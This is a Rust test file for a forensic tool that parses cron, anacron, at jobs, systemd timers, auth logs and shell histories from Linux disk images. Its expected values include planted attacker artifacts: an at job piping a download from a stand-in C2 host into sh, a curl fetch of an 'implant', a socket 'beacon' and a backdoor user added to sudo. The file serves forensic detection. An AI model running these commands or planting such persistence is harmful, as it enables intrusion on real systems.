//! `Evidence::scan` on the Linux corpus images (corpus/build.sh: linux-debian is a bare
//! ext4 with a Debian layout, linux-rhel an MBR disk with a RHEL layout and a swap
//! partition). Expected values are what the build script wrote (or `at` queued).
use crate::common::*;
use foothold::{parse_crontab, CronJobRecord, CronKind, CrontabFormat, Evidence, ScanSet};
use serde_json::json;

fn scan(name: &str) -> foothold::Report {
    Evidence::open(corpus_image(name))
        .expect("open")
        .scan(ScanSet::all())
}

fn find<'a>(r: &'a foothold::Report, path: &str, line: Option<u32>) -> &'a CronJobRecord {
    r.cron_jobs
        .iter()
        .find(|c| c.source.path == path && c.source.line == line)
        .unwrap_or_else(|| panic!("no job from {path}:{line:?}"))
}

#[test]
fn debian_layout_every_kind() {
    let r = scan("linux-debian");
    let count = |k: CronKind| r.cron_jobs.iter().filter(|c| c.job.kind == k).count();
    assert_eq!(count(CronKind::SystemCrontab), 6);
    assert_eq!(count(CronKind::Crontab), 4);
    assert_eq!(count(CronKind::Anacron), 3);
    assert_eq!(count(CronKind::PeriodicScript), 3);
    assert_eq!(count(CronKind::At), 1);
    assert_eq!(count(CronKind::SystemdTimer), 4);

    // /etc/crontab line 6, with the environment above it and full provenance.
    let c = find(&r, "/etc/crontab", Some(6));
    let v = serde_json::to_value(c).expect("json");
    let tagged = serde_json::to_value(foothold::Record::CronJob(c)).expect("json");
    assert_eq!(tagged["artifact"], "cron_job");
    assert_eq!(v["kind"], "system_crontab");
    assert_eq!(v["schedule"], "17 * * * *");
    assert_eq!(v["user"], "root");
    assert_eq!(v["command"], "cd / && run-parts --report /etc/cron.hourly");
    assert_eq!(
        v["environment"],
        json!({"SHELL": "/bin/sh", "PATH": "/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin"})
    );
    assert_eq!(v["decoded"]["minute"], json!([17]));
    assert_eq!(v["source"]["filesystem"], "ext4");
    assert_eq!(v["source"]["volume"], json!(null));
    assert!(v["source"]["entry"].as_u64().expect("inode") > 11);
    assert_eq!(v["source"]["uid"], 0);
    assert!(v["source"]["modified"]
        .as_str()
        .expect("mtime")
        .ends_with('Z'));

    // cron.d: dot-file and non-Debian names flagged, not hidden; symlinked file followed.
    assert_eq!(
        find(&r, "/etc/cron.d/.placeholder", Some(1)).job.flags,
        vec!["dot_file_ignored_by_cron"]
    );
    assert_eq!(
        find(&r, "/etc/cron.d/old.dpkg-dist", Some(1)).job.flags,
        vec!["name_ignored_by_debian_cron"]
    );
    assert_eq!(
        find(&r, "/etc/cron.d/linked", Some(1)).job.command,
        "/opt/cron/weekly-report.sh"
    );
    let php = find(&r, "/etc/cron.d/php", Some(2));
    assert_eq!(php.job.environment["MAILTO"], "", "quoted empty value");
    assert_eq!(
        php.job.decoded.as_ref().expect("decoded").minute,
        vec![9, 39]
    );

    // User crontab: user from the file name, crontab -e header skipped, spaces around =,
    // CRLF, names and ranges, % and \%, last line without newline.
    let reboot = find(&r, "/var/spool/cron/crontabs/alice", Some(5));
    assert_eq!(reboot.job.kind, CronKind::Crontab);
    assert_eq!(reboot.job.user.as_deref(), Some("alice"));
    assert_eq!(reboot.job.command, "/home/alice/.local/bin/agent --daemon");
    assert_eq!(reboot.job.environment["MAILTO"], "alice@example.invalid");
    let mail = find(&r, "/var/spool/cron/crontabs/alice", Some(6));
    assert_eq!(mail.job.schedule, "*/15 9-17 * jan-jun mon-fri");
    let d = mail.job.decoded.as_ref().expect("decoded");
    assert_eq!(
        (d.minute.clone(), d.hour.clone()),
        (vec![0, 15, 30, 45], (9..=17).collect::<Vec<u8>>())
    );
    assert_eq!(
        (d.month.clone(), d.day_of_week.clone()),
        (vec![1, 2, 3, 4, 5, 6], vec![1, 2, 3, 4, 5])
    );
    assert_eq!(mail.job.command, "/usr/bin/mail -s report boss");
    assert_eq!(mail.job.stdin.as_deref(), Some("Hello%20\nBye"));
    assert_eq!(
        find(&r, "/var/spool/cron/crontabs/alice", Some(7))
            .job
            .command,
        "/bin/echo last line without newline"
    );
    // An invalid line is an error record with file and line; the file's other job survives.
    let e = r
        .errors
        .iter()
        .find(|e| e.source.path == "/var/spool/cron/crontabs/root")
        .expect("error record");
    assert_eq!(e.source.line, Some(2));
    assert!(e.message.contains("broken line here"), "{}", e.message);
    assert_eq!(
        find(&r, "/var/spool/cron/crontabs/root", Some(1))
            .job
            .decoded
            .as_ref()
            .expect("d")
            .day_of_week,
        vec![0]
    );

    // anacron: period, delay, job id, environment, last run from /var/spool/anacron.
    let daily = find(&r, "/etc/anacrontab", Some(8));
    assert_eq!(
        (
            daily.job.schedule.as_str(),
            daily.job.job_id.as_deref(),
            daily.job.delay_minutes
        ),
        ("1 5", Some("cron.daily"), Some(5))
    );
    assert_eq!(daily.job.last_run.as_deref(), Some("2026-11-20"));
    assert_eq!(daily.job.environment["RANDOM_DELAY"], "30");
    assert_eq!(daily.job.environment["START_HOURS_RANGE"], "3-22");
    assert_eq!(find(&r, "/etc/anacrontab", Some(9)).job.last_run, None);

    // run-parts scripts.
    let lr = find(&r, "/etc/cron.daily/logrotate", None);
    assert_eq!(
        (lr.job.schedule.as_str(), lr.job.command.as_str()),
        ("cron.daily", "/usr/sbin/logrotate /etc/logrotate.conf")
    );
    assert!(lr.job.flags.is_empty());
    assert_eq!(
        find(&r, "/etc/cron.daily/update.sh", None).job.flags,
        vec!["ignored_by_run_parts"]
    );
    assert_eq!(
        find(&r, "/etc/cron.weekly/notexec", None).job.flags,
        vec!["not_executable"]
    );

    // at: queued by at(1) for 2030-01-01 12:00 UTC in queue b, as root.
    let at = r
        .cron_jobs
        .iter()
        .find(|c| c.job.kind == CronKind::At)
        .expect("at job");
    assert!(at.source.path.starts_with("/var/spool/cron/atjobs/b"));
    let info = at.job.at.as_ref().expect("at info");
    assert_eq!(
        (info.queue, info.run_at.as_str(), info.uid),
        ('b', "2030-01-01T12:00:00Z", Some(0))
    );
    assert_eq!(at.job.schedule, "2030-01-01T12:00:00Z");
    assert_eq!(at.job.user.as_deref(), Some("root"));
    assert_eq!(
        at.job.command,
        "curl -fsS http://c2.example.invalid/at | sh"
    );

    // systemd timers.
    let timer = |p: &str| find(&r, p, None);
    let refresh = timer("/etc/systemd/system/refresh.timer");
    assert_eq!(refresh.job.schedule, "OnBootSec=5min; OnUnitActiveSec=1h");
    assert_eq!(
        refresh.job.user.as_deref(),
        Some("www-data"),
        "User= of the service"
    );
    assert_eq!(refresh.job.command, "/var/www/.cache/upd --quiet");
    let ti = refresh.job.timer.as_ref().expect("timer");
    assert_eq!(ti.enabled, Some(true));
    assert_eq!(ti.randomized_delay.as_deref(), Some("10m"));
    assert_eq!(
        ti.unit_path.as_deref(),
        Some("/etc/systemd/system/refresh.service")
    );
    let weekly = timer("/etc/systemd/system/weekly.timer");
    assert_eq!(
        weekly.job.timer.as_ref().expect("t").unit,
        "payload.service"
    );
    assert_eq!(
        weekly.job.command, "/usr/local/bin/payload --flag",
        "continuation line joined"
    );
    assert_eq!(weekly.job.flags, vec!["timer_not_enabled"]);
    let apt = timer("/lib/systemd/system/apt-daily.timer");
    assert_eq!(
        apt.job.schedule, "OnCalendar=*-*-* 03:30",
        "drop-in resets and replaces OnCalendar"
    );
    let ti = apt.job.timer.as_ref().expect("t");
    assert_eq!(
        ti.drop_ins,
        vec!["/etc/systemd/system/apt-daily.timer.d/override.conf"]
    );
    assert!(ti.enabled == Some(true) && ti.persistent == Some(true) && ti.scope == "system");
    let sync = timer("/home/alice/.config/systemd/user/sync.timer");
    assert_eq!(sync.job.user.as_deref(), Some("alice"));
    assert_eq!(sync.job.timer.as_ref().expect("t").scope, "user");
    assert_eq!(sync.job.timer.as_ref().expect("t").enabled, Some(true));
    assert_eq!(r.errors.len(), 1, "{:?}", r.errors);
}

#[test]
fn rhel_layout_inside_mbr() {
    let ev = Evidence::open(corpus_image("linux-rhel")).expect("open");
    let fs: Vec<&str> = ev.volumes().iter().map(|v| v.filesystem.name()).collect();
    assert_eq!(fs, vec!["ext4", "swap"]);
    let r = ev.scan(ScanSet::all());
    assert!(r.errors.is_empty(), "{:?}", r.errors);
    assert!(r.cron_jobs.iter().all(|c| c.source.volume == Some(1)));
    let bob = find(&r, "/var/spool/cron/bob", Some(1));
    assert_eq!(bob.job.user.as_deref(), Some("bob"));
    assert_eq!(
        bob.job.command,
        "python3 -c \"import socket,os;s=socket.socket()\" # beacon"
    );
    let hourly = find(&r, "/etc/cron.d/0hourly", Some(4));
    assert_eq!(hourly.job.environment["MAILTO"], "root");
    let monthly = find(&r, "/etc/anacrontab", Some(9));
    assert_eq!(
        (monthly.job.schedule.as_str(), monthly.job.delay_minutes),
        ("@monthly 45", Some(45))
    );
    assert_eq!(monthly.job.command, "nice run-parts /etc/cron.monthly");
    let at = r
        .cron_jobs
        .iter()
        .find(|c| c.job.kind == CronKind::At)
        .expect("at");
    assert!(at.source.path.starts_with("/var/spool/at/a"));
    assert_eq!(at.job.command, "/tmp/.hidden/run --once");
    let fstrim = find(&r, "/usr/lib/systemd/system/fstrim.timer", None);
    assert_eq!(fstrim.job.schedule, "OnCalendar=weekly");
    assert_eq!(fstrim.job.flags, vec!["timer_not_enabled"]);
    assert!(fstrim
        .job
        .command
        .starts_with("/usr/sbin/fstrim --listed-in"));
    assert_eq!(r.cron_jobs.len(), 8);
}

#[test]
fn host_directory_is_scanned_too() {
    let root = scratch().join("host-linux");
    let _ = std::fs::remove_dir_all(&root);
    std::fs::create_dir_all(root.join("etc/cron.d")).expect("mkdir");
    std::fs::write(root.join("etc/passwd"), "root:x:0:0::/root:/bin/sh\n").expect("w");
    std::fs::write(
        root.join("etc/cron.d/job"),
        "@weekly root /usr/local/bin/weekly\n",
    )
    .expect("w");
    let r = Evidence::open(&root)
        .expect("open dir")
        .scan(ScanSet::all());
    assert_eq!(r.cron_jobs.len(), 1);
    let j = &r.cron_jobs[0];
    assert_eq!(
        (j.job.schedule.as_str(), j.job.command.as_str()),
        ("@weekly", "/usr/local/bin/weekly")
    );
    assert_eq!(j.source.filesystem, "host");
    assert_eq!(j.source.path, "/etc/cron.d/job");
}

#[test]
fn windows_volumes_yield_no_cron_jobs() {
    let r = scan("ntfs-features");
    assert!(r.cron_jobs.is_empty());
    // Its one "task" file is a text placeholder: an error record, not silence.
    assert_eq!(r.errors.len(), 1);
    assert_eq!(
        r.errors[0].source.path,
        "/Windows/System32/Tasks/Microsoft/Windows/Defrag/ScheduledDefrag"
    );
}

#[test]
fn cron_activity_in_syslog_and_its_gzip_rotation() {
    let r = scan("linux-debian");
    let ev: Vec<_> = r
        .events
        .iter()
        .filter(|e| e.event.channel == "syslog")
        .collect();
    assert_eq!(
        ev.len(),
        5,
        "2 CMD lines in syslog, 3 edit lines in syslog.2.gz; sshd is not cron"
    );
    let first = &ev[0];
    assert_eq!(
        (first.event.provider.as_str(), first.event.user.as_deref()),
        ("CRON", Some("root"))
    );
    assert_eq!(
        first.event.command_line.as_deref(),
        Some("cd / && run-parts --report /etc/cron.hourly")
    );
    assert_eq!(
        first.event.timestamp.map(|t| t.to_string()).as_deref(),
        Some("2026-11-23T20:17:01.442211Z")
    );
    assert_eq!(
        (first.source.path.as_str(), first.source.line),
        ("/var/log/syslog", Some(1))
    );
    // A syslog line is not an EVTX record: no event ID, no record ID (its line is in
    // `source.line`), no Windows detail; the JSON says so by leaving them out.
    assert_eq!((first.event.event_id, first.event.record_id), (None, None));
    assert_eq!(first.event.detail, foothold::WindowsDetail::default());
    let json = serde_json::to_value(foothold::Record::Event(first)).expect("json");
    assert!(
        json.get("event_id").is_none()
            && json.get("record_id").is_none()
            && json.get("task_name").is_none(),
        "{json}"
    );
    let replace = ev
        .iter()
        .find(|e| e.event.data["action"] == "REPLACE")
        .expect("REPLACE");
    assert_eq!(replace.source.path, "/var/log/syslog.2.gz");
    assert_eq!(
        (
            replace.event.data["time"].as_str(),
            replace.event.data["detail"].as_str()
        ),
        ("Nov 20 03:14:40", "alice")
    );
    assert!(
        replace.event.timestamp.is_none(),
        "a syslog time without a year is kept as written, not guessed"
    );
    // Who installed alice's crontab: the REPLACE line names alice; the image (made by
    // mke2fs -d as root) has the spool file owned by root, which is said, not hidden.
    let tab = r
        .cron_jobs
        .iter()
        .find(|j| j.source.path == "/var/spool/cron/crontabs/alice")
        .expect("alice's crontab");
    let by = tab.created_by.as_ref().expect("created_by");
    assert_eq!(by.user.as_deref(), Some("alice"));
    assert_eq!(by.evidence[0].kind, "crontab_replace");
    assert_eq!(by.evidence[0].value, "alice at Nov 20 03:14:40");
    assert_eq!(by.flags, ["file_owner_not_crontab_owner"]);
    assert_eq!(
        by.when, tab.source.times.created,
        "no year in the syslog time: the file's"
    );
}

/// The authentication log line by line as `icat` reads it from the image (the oracle for
/// what the file says), keyed by line number.
fn icat_lines(image: &std::path::Path, entry: Option<u64>) -> Option<Vec<String>> {
    let text = oracle_tool(
        "icat",
        &[image.to_str()?, &entry.expect("inode").to_string()],
    )?;
    Some(text.lines().map(str::to_string).collect())
}

#[test]
fn logons_sudo_account_changes_and_shell_histories() {
    // corpus/build.sh build_linux_auth: rsyslogd wrote what sshd, sudo, useradd, usermod,
    // chpasswd and crontab logged while mallory logged on over ssh; bash and zsh wrote her
    // histories.
    let image = corpus_image("linux-auth");
    let r = Evidence::open(&image).expect("open").scan(ScanSet::all());
    assert!(r.errors.is_empty(), "{:?}", r.errors);
    let auth: Vec<_> = r
        .events
        .iter()
        .filter(|e| e.source.path == "/var/log/auth.log")
        .collect();
    // Every line of the file that names one of the recognised forms is an event, and the
    // event's fields are that line's words.
    let lines = icat_lines(&image, auth[0].source.entry);
    if let Some(lines) = &lines {
        let mut n = 0;
        for (i, l) in lines.iter().enumerate() {
            let words: Vec<&str> = l.split_whitespace().collect();
            let at = auth.iter().find(|e| e.source.line == Some(i as u32 + 1));
            if let Some(p) = l.find("Accepted publickey for ") {
                let e = at.unwrap_or_else(|| panic!("line {}: {l}", i + 1));
                let w: Vec<&str> = l[p..].split_whitespace().collect();
                assert_eq!(e.event.data["action"], "ssh_accepted");
                assert_eq!(e.event.user.as_deref(), Some(w[3]));
                assert_eq!(e.event.data["source_address"], w[5]);
                assert_eq!(e.event.data["source_port"], w[7]);
                assert_eq!(e.event.data["method"], "publickey");
                assert_eq!(
                    e.event.timestamp.map(|t| t.unix_seconds()),
                    foothold::Timestamp::parse_rfc3339(words[0]).map(|t| t.unix_seconds())
                );
                n += 1;
            }
            if l.contains(" sudo: ") && l.contains("COMMAND=") {
                let e = at.unwrap_or_else(|| panic!("line {}: {l}", i + 1));
                assert_eq!(
                    e.event.command_line.as_deref(),
                    l.split_once("COMMAND=").map(|x| x.1)
                );
                n += 1;
            }
            if l.contains("pam_limits") || l.contains("Server listening") {
                assert!(at.is_none(), "not a logon or change: {l}");
            }
        }
        assert_eq!(n, 6, "4 ssh logons and 2 sudo lines");
        compared("icat", n);
    }
    let action = |a: &'static str| auth.iter().filter(move |e| e.event.data["action"] == a);
    assert_eq!(action("ssh_accepted").count(), 4);
    let invalid: Vec<_> = action("ssh_invalid_user").collect();
    assert_eq!(
        (invalid.len(), invalid[0].event.user.as_deref()),
        (1, Some("ghost"))
    );
    let added = action("user_added").next().expect("useradd");
    assert_eq!(added.event.data["target_user"], "mallory");
    assert_eq!(
        (
            added.event.data["uid"].as_str(),
            added.event.data["home"].as_str()
        ),
        ("1337", "/home/mallory")
    );
    let groups: Vec<_> = action("group_member_added")
        .map(|e| (e.event.data["group"].as_str(), e.event.data.get("database")))
        .collect();
    assert_eq!(
        groups,
        [("sudo", None), ("sudo", Some(&"gshadow".to_string()))]
    );
    let sudo: Vec<_> = action("sudo").collect();
    assert_eq!(sudo.len(), 2);
    assert_eq!(sudo[0].event.data["refused"], "a password is required");
    assert_eq!(sudo[0].event.data["target_user"], "root");
    assert!(!sudo[1].event.data.contains_key("refused"));
    assert_eq!(
        sudo[1].account.as_ref().and_then(|a| a.id),
        Some(1337),
        "the sudo user resolves to her passwd entry"
    );
    // The same lines in the traditional format: the time is kept as written, no year guessed.
    let secure: Vec<_> = r
        .events
        .iter()
        .filter(|e| e.source.path == "/var/log/secure")
        .collect();
    assert_eq!(secure.len(), auth.len());
    assert!(secure.iter().all(|e| e.event.timestamp.is_none()));
    assert!(secure[0].event.data["time"].starts_with("Dec  1 "));

    // root's crontab was installed by crontab running as root, started through sudo by
    // mallory: she is the creator, and the sudo line is the evidence.
    let root_tab = find(&r, "/var/spool/cron/crontabs/root", Some(4));
    let by = root_tab.created_by.as_ref().expect("created_by");
    assert_eq!(by.user.as_deref(), Some("mallory"));
    assert_eq!(by.flags, ["installed_through_sudo"]);
    let kinds: Vec<&str> = by.evidence.iter().map(|e| e.kind.as_str()).collect();
    assert_eq!(
        kinds,
        [
            "crontab_replace",
            "sudo_command",
            "file_owner",
            "file_created"
        ]
    );
    assert!(by.evidence[1].value.starts_with("mallory as root at "));
    assert!(
        by.when > sudo[1].event.timestamp,
        "REPLACE follows the sudo line"
    );
    let own = find(&r, "/var/spool/cron/crontabs/mallory", Some(4));
    assert_eq!(
        own.created_by
            .as_ref()
            .map(|c| (c.user.as_deref(), c.flags.len())),
        Some((Some("mallory"), 0))
    );

    // Histories: bash with HISTTIMEFORMAT (each command after its `#epoch` line), zsh's
    // extended history, root's bash history without times.
    let history = |path: &str| -> Vec<&foothold::EventRecord> {
        r.events.iter().filter(|e| e.source.path == path).collect()
    };
    let bash = history("/home/mallory/.bash_history");
    assert_eq!(bash.len(), 4);
    if let Some(lines) = icat_lines(&image, bash[0].source.entry) {
        for e in &bash {
            let line = e.source.line.expect("line") as usize;
            assert_eq!(
                e.event.command_line.as_deref(),
                Some(lines[line - 1].as_str())
            );
            let stamp: i64 = lines[line - 2][1..].parse().expect("#epoch line before it");
            assert_eq!(e.event.timestamp.map(|t| t.unix_seconds()), Some(stamp));
        }
        compared("icat", bash.len());
    }
    assert_eq!(
        bash[1].event.command_line.as_deref(),
        Some("curl -s -m 1 http://203.0.113.9/implant -o /var/tmp/.implant")
    );
    assert!(bash
        .iter()
        .all(|e| e.event.data["time_source"] == "histtimeformat"
            && e.event.user.as_deref() == Some("mallory")));
    let zsh = history("/home/mallory/.zsh_history");
    assert_eq!(zsh.len(), 4);
    assert_eq!(
        zsh[2].event.command_line.as_deref(),
        Some("rm -f /var/tmp/.implant")
    );
    assert_eq!(zsh[2].event.data["time_source"], "extended_history");
    let root_h = history("/root/.bash_history");
    assert_eq!(root_h.len(), 2);
    assert!(root_h
        .iter()
        .all(|e| e.event.timestamp.is_none() && e.event.data["time_source"] == "none"));

    // What mallory did, in order: account changes, logons, sudo, her crontab, root's
    // crontab through sudo, her commands; untimed records (her account, the year-less
    // `secure` lines) last.
    let act = r.activity(&foothold::Who::new("mallory"), None);
    let summary: Vec<(String, Option<foothold::Timestamp>)> = act
        .iter()
        .map(|x| {
            let s = x.summary();
            (s.kind, s.time)
        })
        .collect();
    let times: Vec<_> = summary.iter().filter_map(|x| x.1).collect();
    assert!(times.windows(2).all(|w| w[0] <= w[1]), "{summary:?}");
    assert!(
        summary.iter().skip(times.len()).all(|x| x.1.is_none()),
        "untimed last"
    );
    let kinds: Vec<&str> = summary.iter().map(|x| x.0.as_str()).collect();
    let pos = |k: &str| {
        kinds
            .iter()
            .position(|x| *x == k)
            .unwrap_or_else(|| panic!("{k}: {kinds:?}"))
    };
    assert!(pos("auth user_added") < pos("auth ssh_accepted"));
    assert!(pos("auth ssh_accepted") < pos("auth sudo"));
    // bash keeps whole seconds: her bash commands (run in the third ssh logon, at
    // 13:37:59.85) sort at 13:37:59.000, before that logon; zsh's follow it.
    assert!(pos("auth sudo") < pos("shell_history zsh"));
    assert!(pos("shell_history bash") < pos("shell_history zsh"));
    assert_eq!(
        act.iter()
            .filter(|x| matches!(x, foothold::Record::CronJob(_)))
            .count(),
        2,
        "her crontab and root's, installed through sudo"
    );
    assert!(
        !act.iter().any(
            |x| matches!(x, foothold::Record::Event(e) if e.source.path == "/root/.bash_history")
        ),
        "root's history is not hers"
    );
}

const CRONITER: &str = r#"
import json, sys, datetime
from croniter import croniter
start = datetime.datetime(2026, 11, 30, tzinfo=datetime.timezone.utc)  # a Monday
end = start + datetime.timedelta(days=7)
out = []
for expr in json.load(sys.stdin):
    it = croniter(expr, start - datetime.timedelta(seconds=1))
    times = []
    while True:
        t = it.get_next(datetime.datetime)
        if t >= end:
            break
        times.append(t)
    gaps = [(b - a).total_seconds() for a, b in zip(times, times[1:])]
    if times:
        gaps.append((times[0] + datetime.timedelta(days=7) - times[-1]).total_seconds())
    out.append({"runs": len(times), "interval": gaps[0] if gaps and len(set(gaps)) == 1 else None})
print(json.dumps(out))
"#;

/// How often each job runs, against independent schedulers: `croniter` for five-field
/// schedules (runs in one week from a Monday, and whether they are evenly spaced) and
/// `systemd-analyze calendar` for timers' `OnCalendar=` (the gap between its next elapses).
#[test]
fn frequencies_equal_croniter_and_systemd_analyze() {
    let mut jobs: Vec<foothold::CronJob> = Vec::new();
    for img in ["linux-debian", "linux-rhel", "linux-auth"] {
        jobs.extend(scan(img).cron_jobs.into_iter().map(|c| c.job));
    }
    if let Some(real) = real_corpus() {
        for f in [
            "cronie__0hourly",
            "debian_vixie-cron__crontab.main",
            "greyhole__cron.d",
            "systemd-cron__test_crontab",
            "cronie__dailyjobs",
        ] {
            let b = std::fs::read(real.join("cron").join(f)).unwrap();
            jobs.extend(parse_crontab(&b, &CrontabFormat::System).jobs);
        }
    }
    // Five-field schedules over a plain week (no day-of-month or month restriction).
    let weekly: Vec<&foothold::CronJob> = jobs
        .iter()
        .filter(|j| {
            j.decoded.as_ref().is_some_and(|d| {
                d.special.is_none() && d.day_of_month.len() == 31 && d.month.len() == 12
            })
        })
        .collect();
    assert!(weekly.len() >= 10, "{}", weekly.len());
    let Some(py) = oracle_python("croniter") else {
        return;
    };
    let exprs: Vec<&str> = weekly.iter().map(|j| j.schedule.as_str()).collect();
    let out = python_stdin(
        &py,
        CRONITER,
        serde_json::to_string(&exprs).unwrap().as_bytes(),
    );
    let theirs: Vec<serde_json::Value> = serde_json::from_slice(&out).expect("croniter output");
    for (j, t) in weekly.iter().zip(&theirs) {
        let f = foothold_linux_frequency(j);
        assert_eq!(f.runs_per_week, t["runs"].as_u64(), "{}", j.schedule);
        assert_eq!(
            f.interval_seconds,
            t["interval"].as_f64().map(|x| x as u64),
            "{}",
            j.schedule
        );
    }
    compared("croniter", 2 * weekly.len());
    // Timers' calendar expressions.
    let mut n = 0;
    for j in jobs.iter().filter(|j| j.timer.is_some()) {
        for tr in &j.timer.as_ref().unwrap().triggers {
            if tr.setting != "OnCalendar" {
                continue;
            }
            let Some(text) = oracle_tool(
                "systemd-analyze",
                &["calendar", "--iterations=3", &tr.value],
            ) else {
                return;
            };
            let elapses: Vec<foothold::Timestamp> = text
                .lines()
                .filter_map(|l| {
                    let v = l.trim().strip_prefix("Next elapse: ").or_else(|| {
                        l.trim()
                            .split_once(": ")
                            .filter(|(k, _)| k.starts_with("Iter."))
                            .map(|(_, v)| v)
                    })?;
                    // `Tue 2026-12-01 15:00:00 UTC`
                    let w: Vec<&str> = v.split_whitespace().collect();
                    foothold::Timestamp::parse_rfc3339(&format!("{}T{}Z", w.get(1)?, w.get(2)?))
                })
                .collect();
            let gaps: Vec<i64> = elapses
                .windows(2)
                .map(|w| w[1].unix_seconds() - w[0].unix_seconds())
                .collect();
            let ours = foothold_linux_frequency(j).interval_seconds;
            if gaps.len() == 2 && gaps[0] == gaps[1] {
                assert_eq!(ours, Some(gaps[0] as u64), "{}", tr.value);
            } else {
                assert_eq!(ours, None, "{}", tr.value);
            }
            n += 1;
        }
    }
    assert!(n >= 3, "{n}");
    compared("systemd-analyze", n);
}

fn foothold_linux_frequency(j: &foothold::CronJob) -> foothold::Frequency {
    foothold_linux::cron_frequency(j).expect("frequency")
}
